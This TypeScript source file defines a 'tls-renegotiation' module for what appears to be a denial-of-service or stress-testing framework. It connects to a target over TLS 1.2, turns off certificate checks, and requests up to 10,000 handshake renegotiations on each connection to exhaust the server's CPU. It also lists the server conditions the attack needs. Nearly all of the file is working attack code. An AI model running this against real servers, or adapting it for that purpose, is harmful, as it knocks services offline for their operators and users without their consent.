import tls from 'node:tls';
import { z } from 'zod';
import type { AttackContext, AttackDefinition } from './attack.ts';
import { connectToTarget } from './attack-socket.ts';
import { pace } from './pace.ts';

export interface TlsRenegotiationSettings {
  /** Renegotiations on one connection before it is closed. Default 100, as published. 1 to 10,000. */
  readonly renegotiations: number;
}

/** One connection: a handshake and then the renegotiations, one after the other. True when all of them were done. */
function attackOnce(context: AttackContext, renegotiations: number): Promise<boolean> {
  const { plan, signal } = context;
  return new Promise((resolve) => {
    const raw = connectToTarget(context);
    const secure = tls.connect({ socket: raw, rejectUnauthorized: false, maxVersion: 'TLSv1.2' });
    const end = (success: boolean): void => {
      clearTimeout(timer);
      signal.removeEventListener('abort', abort);
      // First, for destroying emits `close`, which would call this a failure.
      resolve(success);
      raw.resetAndDestroy();
      secure.destroy();
    };
    const abort = (): void => end(false);
    const timer = setTimeout(abort, plan.timeoutMs);
    signal.addEventListener('abort', abort);
    raw.on('error', abort);
    secure.on('error', abort);
    secure.on('close', abort);
    let left = renegotiations;
    const next = (): void => {
      if (left === 0) {
        end(true);
        return;
      }
      left -= 1;
      secure.renegotiate({ rejectUnauthorized: false }, (error) => {
        // The next one only in a turn of its own: Node still holds the state of this one here.
        if (error === null) setImmediate(next);
        else end(false);
      });
    };
    // Node emits it again after every renegotiation.
    secure.once('secureConnect', next);
  });
}

/** TLS renegotiation: one connection asks for a new handshake again and again. */
export const tlsRenegotiation: AttackDefinition<'tls-renegotiation'> = {
  name: 'tls-renegotiation',
  title: 'Asks for a new TLS handshake again and again on one connection.',
  needs: [
    'A TLS port that still speaks TLS 1.2 (TLS 1.3 has no renegotiation).',
    'The limit on renegotiations by clients lifted (`tls.CLIENT_RENEG_LIMIT = Infinity`); Node allows 3 in 600 s.',
  ],
  exhausts: 'cpu',
  settings: z.strictObject({ renegotiations: z.int().min(1).max(10_000).default(100) }),
  prepare({ renegotiations }) {
    return (context) => pace(context, () => attackOnce(context, renegotiations));
  },
};
